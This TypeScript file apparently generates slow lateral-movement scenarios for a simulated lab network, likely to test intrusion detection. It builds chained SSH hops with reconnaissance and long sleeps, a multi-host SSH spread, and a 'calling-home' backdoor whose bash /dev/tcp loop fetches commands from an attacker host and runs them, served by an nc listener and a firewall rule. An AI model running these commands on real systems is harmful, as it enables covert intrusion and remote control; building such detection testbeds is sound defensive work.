import { legsAlong, movement, path, quote, recon } from './lateral-movement.ts'
import type { Variant } from './plan.ts'
import type { World } from '../draw-world.ts'

const AS_LONG_AS_IT_MAY = 3600

/** How long an intruder lies still between two things that he does: hours, of which a run has minutes. */
const stillness = ({ random }: World): number => random.magnitude(10, 90)

/** Movements with long silence in them. */
export const SLOW_HOPS: readonly Variant[] = [
  {
    name: 'slow-hops',
    heldOut: false,
    manner: 'slow',
    service: 'ssh',
    draw: (world) => {
      const pods = path(world, world.random.integer(2, 3))
      const command = [...pods.slice(1)].reverse().reduce((inner, pod) => `ssh alice@${pod.address} ${quote(`${recon(world)}; sleep ${stillness(world)}; ${inner}`)}`, recon(world))
      return movement('slow ssh hops', pods[0], pods.slice(1), legsAlong(pods, 22), `${command} >/dev/null`, AS_LONG_AS_IT_MAY)
    },
  },
  {
    name: 'slow-worm',
    heldOut: true,
    manner: 'slow',
    service: 'ssh',
    draw: (world) => {
      const pods = path(world, world.random.integer(2, 4))
      const [attacker, ...victims] = pods
      const command = victims.map((pod) => `ssh alice@${pod.address} ${quote(recon(world))} >/dev/null; sleep ${stillness(world)}`).join('; ')
      return movement('slow ssh to many', attacker, victims, legsAlong([attacker, ...victims.slice(0, 1)], 22).concat(victims.slice(1).flatMap((pod) => legsAlong([attacker, pod], 22))), command, AS_LONG_AS_IT_MAY)
    },
  },
  {
    // A backdoor that calls home and asks for work.
    name: 'calling-home',
    heldOut: false,
    manner: 'slow',
    service: 'shell',
    draw: (world) => {
      const [attacker, victim] = path(world, 1)
      if (victim === undefined) return null
      const { random } = world
      const port = random.pick([4444, 8081, 9001])
      const gap = random.magnitude(2, 30)
      const answer = `sleep 0.3; echo ${quote(random.pick(['id; ls -la /', 'ps ax', 'cat /etc/passwd', 'ss -tan']))}; sleep 1`
      const listener = `while :; do (${answer}) | timeout 20 nc -l -n -p ${port} >/dev/null; done`
      const legs = legsAlong([victim, attacker], port).concat(legsAlong([attacker, victim], 22))
      const command = `ssh alice@${victim.address} ${quote(`for i in $(seq 200); do timeout 4 bash -c "exec 3<>/dev/tcp/${attacker.address}/${port}; head -n 1 <&3 | bash >&3 2>&1"; sleep ${gap}; done`)} >/dev/null 2>&1`
      return movement('calling home', attacker, [victim], legs, command, AS_LONG_AS_IT_MAY, [{ pod: attacker, command: `nft insert rule inet lab input meta l4proto tcp th dport ${port} accept 2>/dev/null; ${listener}` }])
    },
  },
]
